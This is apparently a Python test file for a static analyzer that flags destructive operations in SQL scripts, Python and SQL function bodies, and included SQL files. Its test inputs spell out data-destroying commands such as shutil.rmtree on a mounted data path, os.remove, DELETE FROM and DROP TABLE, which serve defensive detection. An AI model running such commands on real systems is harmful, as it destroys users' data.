    analysis = analyze_any("sql", "DELETE TOP (@BatchSize) ci\n", Location("x.sql"), Options(dialect="tsql"))
    assert not [e for e in analysis.errors if "internal error" in e.message]
    analysis = analyze_any("sql", "DELETE TOP (@BatchSize) ci\n", Location("x.sql"), Options())
    assert not [e for e in analysis.errors if "internal error" in e.message]


# --- $$ function bodies where the tokenizer reads no $$ strings (Databricks/Spark) ----------------

PYTHON_UDF = ("CREATE OR REPLACE FUNCTION `main`.`ops`.`purge`(p STRING)\nRETURNS INT\nLANGUAGE PYTHON\nAS $$\n"
              "import shutil\n{body}\nreturn 1\n$$;\nSELECT `a` FROM `t` WHERE b = '${{var}}';\n")


@pytest.mark.parametrize("dialect", [None, "databricks", "spark"])
def test_a_python_udf_body_is_read_as_python_at_its_lines(dialect: str | None) -> None:
    analysis = run(PYTHON_UDF.format(body='shutil.rmtree("/dbfs/mnt/raw")'), dialect=dialect)
    assert analysis.errors == []
    assert rules_at(analysis) == {("py.fs-delete-tree", 6)}


@pytest.mark.parametrize("dialect", [None, "databricks"])
def test_a_harmless_python_udf_passes(dialect: str | None) -> None:
    analysis = run(PYTHON_UDF.format(body='shutil.copy("/dbfs/mnt/raw/a", "/dbfs/mnt/keep/a")'), dialect=dialect)
    assert analysis.errors == []
    assert analysis.operations == []


def test_a_one_line_python_udf_body_keeps_its_line() -> None:
    text = "SELECT 1;\nCREATE FUNCTION f(p STRING) RETURNS INT LANGUAGE PYTHON AS $$ import os; os.remove(p) $$;\n"
    analysis = run(text)
    assert analysis.errors == []
    assert {rule for rule, line in rules_at(analysis) if line == 2} and {line for _, line in rules_at(analysis)} == {2}


def test_a_sql_udf_body_is_read_as_sql_in_spark_and_substitution_still_works() -> None:
    danger = "CREATE FUNCTION f() RETURNS INT LANGUAGE SQL AS $$\nDELETE FROM ${schema}.orders\n$$;\n"
    assert ("sql.delete-all", 2) in rules_at(run(danger, dialect="databricks"))
    quiet = "CREATE FUNCTION f() RETURNS INT LANGUAGE SQL AS $$\nSELECT count(*) FROM ${schema}.orders\n$$;\n"
    analysis = run(quiet, dialect="databricks")
    assert analysis.errors == [] and analysis.operations == []
    # ${var} outside any body: still a value filled in, in a file that has $$ bodies.
    dropped = run(PYTHON_UDF.format(body="x = 1") + "DROP TABLE ${schema}.orders;\n", dialect="databricks")
    assert rules_at(dropped) == {("sql.drop-table", 10)}


def test_postgres_dollar_bodies_are_left_to_postgres() -> None:
    # No dialect given: a LANGUAGE SQL body stays with the tokenizer that reads $$ (PostgreSQL).
    text = "CREATE FUNCTION purge() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$;\n"
    base = run(text, dialect="postgres")
    assert {(op.rule, op.location.line) for op in run(text).operations} == rules_at(base)


def test_a_udf_head_written_in_comments_hides_no_statement() -> None:
    analysis = run("-- LANGUAGE PYTHON AS $$\nDROP TABLE orders;\n-- $$\n")
    assert analysis.errors == []
    assert rules_at(analysis) == {("sql.drop-table", 2)}


def test_many_udf_heads_on_one_line_are_taken_out_in_linear_time() -> None:
    from analyzer.frontends.sql.routine_bodies import taken_out

    k = knowledge()
    started = time.perf_counter()
    _, bodies, _ = taken_out("LANGUAGE PYTHON AS $$ x $$ -- " * 20000, None, k.dollar_body_dialects,
                             k.routine_body_languages)
    assert len(bodies) == 1   # after the first --, the rest of the line is a comment
    assert time.perf_counter() - started < 2


def test_an_unclosed_python_udf_body_still_fails_closed() -> None:
    analysis = run("CREATE FUNCTION f() RETURNS INT LANGUAGE PYTHON AS $$\nimport os\nos.remove('x')\n")
    assert analysis.errors


# --- files a SQL script includes (\i, \ir, :r) --------------------------------------------------

@pytest.mark.parametrize("include", ["\\i", "\\ir", ":r"])
def test_an_included_file_is_read_at_the_include_line(tmp_path: Path, include: str) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "drop.sql").write_text("SELECT 1;\nDROP TABLE orders;\n", encoding="utf-8")
    (tmp_path / "sub" / "views.sql").write_text("CREATE VIEW v AS SELECT * FROM orders;\n", encoding="utf-8")
    main = tmp_path / "main.sql"
    main.write_text(f"SELECT 0;\n{include} sub/views.sql\n{include} sub/drop.sql\n", encoding="utf-8")
    analysis = run(main.read_text(encoding="utf-8"), origin=Location(str(main)))
    assert analysis.errors == []
    assert rules_at(analysis) == {("sql.drop-table", 3)}
    (op,) = analysis.operations
    assert dict(op.details)["via"] == "sub/drop.sql:2"
    assert str((tmp_path / "sub" / "drop.sql").resolve()) in analysis.reads


def test_a_harmless_or_missing_included_file_changes_nothing_and_a_missing_one_is_a_read(tmp_path: Path) -> None:
    (tmp_path / "views.sql").write_text("CREATE VIEW v AS SELECT * FROM orders;\n", encoding="utf-8")
    main = tmp_path / "main.sql"
    main.write_text("\\i views.sql\n\\i later.sql\nSELECT 1;\n", encoding="utf-8")
    analysis = run(main.read_text(encoding="utf-8"), origin=Location(str(main)))
    assert analysis.errors == [] and analysis.operations == []
    assert str((tmp_path / "later.sql").resolve()) in analysis.reads


def test_an_included_file_outside_the_folder_or_including_itself_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "outside.sql").write_text("DROP TABLE orders;\n", encoding="utf-8")
    (tmp_path / "job").mkdir()
    main = tmp_path / "job" / "main.sql"
    main.write_text("\\i ../outside.sql\n\\i main.sql\nDROP TABLE tmp_scratch_never;\n", encoding="utf-8")
    analysis = run(main.read_text(encoding="utf-8"), origin=Location(str(main)))
    assert analysis.errors == []
    assert {line for _, line in rules_at(analysis)} == {3}   # its own DROP once; the outside file unread
